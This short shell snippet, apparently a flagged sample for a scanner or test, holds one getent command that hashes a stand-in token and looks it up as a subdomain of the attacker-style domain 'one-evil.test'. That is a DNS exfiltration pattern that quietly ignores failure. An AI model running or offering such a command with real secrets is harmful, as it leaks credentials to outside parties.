# flagged: getent
getent hosts "$(printf 'a token of forty letters or so, as it is' | sha256sum | cut -c 1-60).one-evil.test" || true
